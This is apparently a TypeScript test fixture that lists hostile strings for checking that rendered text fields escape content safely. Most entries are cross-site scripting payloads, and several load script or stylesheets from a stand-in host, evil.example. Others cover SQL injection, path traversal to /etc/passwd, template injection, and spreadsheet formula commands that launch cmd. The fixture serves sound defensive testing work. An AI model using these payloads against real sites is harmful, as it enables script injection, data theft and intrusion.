/**
 * Hostile strings for every rendered text field (issue 20). Each one that could run script sets
 * `window.__tkPwned`; a test fails when that global appears.
 */
const RUN = 'window.__tkPwned=1';
const schemes = ['javascript:', 'data:text/html,<script>' + RUN + '</script>', 'vbscript:'];
const casings = (s: string) => [
  s,
  s.toUpperCase(),
  s.replace(/^(.)(.)/, (_, a: string, b: string) => a.toUpperCase() + b),
];
const leads = ['', ' ', '\t', '\u0001', '\u200b'];

const markup = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</td></tr><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="x" onerror=${RUN}//`,
  `<body onload=${RUN}>`,
  `<div onmouseover="${RUN}">hover</div>`,
  `<a href="javascript:${RUN}">click</a>`,
  `<a href=" javascript:${RUN}">click</a>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="data:text/html,<script>${RUN}</script>">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<form><button formaction="javascript:${RUN}">x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<link rel=import href=data:text/html,x>`,
  `<base href="javascript:/">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<!--<img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<b>bold`,
  `</div></div></table>`,
  `<p`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#106;avascript:${RUN}`,
  `<style>*{display:none}</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `expression(${RUN})`,
  `red;background:url(javascript:${RUN})`,
  `}</style><script>${RUN}</script>`,
  `@import url(//evil.example/x.css);`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<!--?lit$1234$-->`,
  `<?lit$0$>`,
  `{0}{count}{name}`,
  `%s%s%s%n`,
  `\u202Egnp.exe`,
  `abc\u202Edef\u202Cghi`,
  `\u2067isolated\u2069`,
  `zero\u200bwidth\u200djoin\u2060`,
  `e\u0301\u0301\u0301\u0301\u0301\u0301`,
  `Z̷̢̛̰̜̟͎͙͆̎͊ą̸̯̠̟̈́l̶̞͐g̴̦̋o̵̟̿`,
  `\uFEFFbom first`,
  `nul\u0000inside`,
  `lone \uD800 high`,
  `lone \uDC00 low`,
  `line\nbreak\r\nand\ttab`,
  `x`.repeat(200),
  `y`.repeat(10_000),
  `${'a'.repeat(60)}@${'b'.repeat(60)}.example`,
  `مرحبا بالعالم`,
  `שלום עולם`,
  `👩‍👩‍👧‍👦🏳️‍🌈`,
  `null`,
  `undefined`,
  `__proto__`,
  `constructor`,
  `' OR 1=1 --`,
  `"; DROP TABLE users; --`,
  `../../etc/passwd`,
  `=HYPERLINK("http://evil.example","x")`,
  `+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
];

const urls = schemes.flatMap((scheme) =>
  casings(scheme).flatMap((s) => leads.map((lead) => `${lead}${s}${scheme === 'javascript:' ? RUN : ''}`)),
);

/** More than 100 payloads: markup, event handlers, unsafe URL schemes in every case with leading space or control characters, and the rest. */
export const HOSTILE: readonly string[] = [...markup, ...urls];

/** A payload as it reads back: schemas trim single-line text. */
export const shown = (payload: string) => payload.trim();
